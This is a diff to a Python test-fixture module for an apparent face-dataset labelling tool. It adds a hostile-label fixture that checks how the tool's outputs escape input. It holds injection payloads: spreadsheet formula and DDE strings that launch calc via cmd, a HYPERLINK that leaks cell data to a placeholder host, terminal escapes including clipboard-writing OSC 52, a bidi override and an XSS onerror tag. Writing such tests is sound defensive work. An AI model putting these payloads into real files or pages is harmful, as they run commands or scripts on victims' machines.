@@ -17,6 +17,25 @@ RACES = ("A", "B")
 GENDERS = ("F", "M")
 HEADER = ("path", "identity", "race", "gender")
 
+#: Labels that mean something to one of the tool's outputs: a spreadsheet formula (and a DDE call),
+#: terminal control sequences (a window title, OSC 52 writing the clipboard, a carriage return that
+#: rewrites the line, a bidirectional override), matplotlib mathtext and its legend's "hidden" prefix,
+#: HTML markup, a character XML 1.0 forbids.
+HOSTILE_LABELS = {
+    "formula": '=HYPERLINK("http://x.invalid/?"&A1,"open")',
+    "dde": "+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "title": "B\x1b]0;owned\x07",
+    "clipboard": "\x1b]52;c;ZWNobyBvd25lZA==\x07C",
+    "carriage-return": "FAIL\rpass",
+    "bidi": "\u202eetihW",
+    "mathtext": "$\\frac{a$",
+    "legend-hidden": "_hidden",
+    "markup": '<img src=x onerror="alert(1)">',
+    "xml-forbidden": "nul\x00vt\x0b",
+}
+
 
 def person_labels(person: int) -> tuple[str, str]:
     return RACES[person % 2], GENDERS[(person // 2) % 2]
@@ -45,6 +64,20 @@ def write_manifest_rows(root: Path, rows: Sequence[Sequence[str]], header: Seque
         writer.writerow(header)
         writer.writerows(rows)
     return root / "manifest.csv"
+
+
+def hostile_dataset(root: Path, *, race: Sequence[str], gender: Sequence[str], identity: str,
+                    file_name: str) -> Path:
+    """Four people, one face each, whose labels, first identity and first file name are hostile."""
+    (root / "img").mkdir(parents=True, exist_ok=True)
+    rows = []
+    for person in range(4):
+        name = f"img/{file_name}" if person == 0 else f"img/p{person}.png"
+        (root / name).write_bytes(rgb_png(person))
+        rows.append((name, identity if person == 0 else f"p{person}", race[person % len(race)],
+                     gender[(person // 2) % len(gender)]))
+    write_manifest_rows(root, rows)
+    return root
 
 
 def folders_source(root: Path, *, people: int = 4, per_person: int = 2) -> tuple[Path, Path]:
